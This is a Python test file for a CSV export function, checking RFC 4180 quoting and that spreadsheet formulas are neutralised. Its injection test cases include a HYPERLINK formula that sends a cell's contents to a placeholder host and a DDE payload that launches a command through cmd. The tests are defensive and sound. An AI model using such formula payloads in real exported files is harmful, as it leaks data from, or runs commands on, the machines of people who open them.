import csv
import io

import pytest
from hypothesis import given, strategies as st

from ops.query.result import Answer, Value
from ops.query.rfc4180 import csv_bytes

TEXTS = st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n\"', 1é"), st.characters(codec="utf-8")))
VALUES = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False), TEXTS)


def written(*cells: Value, raw: bool = False) -> str:
    """Return the line of a row of these cells."""
    answer = Answer(columns=("a",), rows=[cells], seconds=0, bytes_read=0)
    return csv_bytes(answer, raw=raw).decode().removeprefix("a\r\n").removesuffix("\r\n")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("spinner 10%\rspinner 99%", '"spinner 10%\rspinner 99%"'),
        ("two\nlines", '"two\nlines"'),
        ("a,b", '"a,b"'),
        ('say "no"', '"say ""no"""'),
        ("plain; é", "plain; é"),
        ("", '""'),
        (None, ""),
        (True, "true"),
        (1.5, "1.5"),
        (float("-inf"), "-Infinity"),
        (float("nan"), "NaN"),
        ("half \ud800", "half \\ud800"),
    ],
)
def test_cell_is_quoted_where_rfc_4180_asks_for_it(value: Value, expected: str) -> None:
    assert written(value) == written(value, raw=True) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x.example/?"&A1)', '"\'=HYPERLINK(""http://x.example/?""&A1)"'),
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", '"\'\r=1"'),
        ("\n=1", '"\'\n=1"'),
        ("＝1", "'＝1"),  # noqa: RUF001 - a wide form
        ("-", "'-"),
    ],
)
def test_formula_becomes_text_unless_it_is_wanted(value: str, expected: str) -> None:
    assert written(value) == expected
    assert written(value, raw=True) == expected.replace("'", "", 1)


@pytest.mark.parametrize("value", [-7, -0.5, "-1", "+8.25", "-1e-3", "a=1", "'=1"])
def test_number_and_harmless_text_stay_as_they_are(value: Value) -> None:
    assert written(value) == str(value)


def test_name_of_a_column_is_no_formula_either() -> None:
    answer = Answer(columns=("=1+1", "b"), rows=[], seconds=0, bytes_read=0)
    assert csv_bytes(answer, raw=False) == b"'=1+1,b\r\n"


@given(st.lists(st.lists(VALUES, min_size=2, max_size=2), max_size=5))
def test_csv_is_read_back_as_it_was_written(rows: list[list[Value]]) -> None:
    answer = Answer(columns=("a", "b"), rows=[(first, second) for first, second in rows], seconds=0, bytes_read=0)
    read = [*csv.reader(io.StringIO(csv_bytes(answer, raw=True).decode(), newline=""))]
    expected = [
        ["" if it is None else str(it).lower() if isinstance(it, bool) else str(it) for it in row] for row in rows
    ]
    assert read == [["a", "b"], *expected]


@given(TEXTS)
def test_no_text_begins_as_a_formula(text: str) -> None:
    (row,) = csv.reader(io.StringIO(written(text, "b"), newline=""))
    number = text.isascii() and text[:1] in "+-" and text[1:2].isdigit()
    assert not row[0].startswith(tuple("=+-@\t\r\n＝＋－＠")) or number  # noqa: RUF001 - wide forms
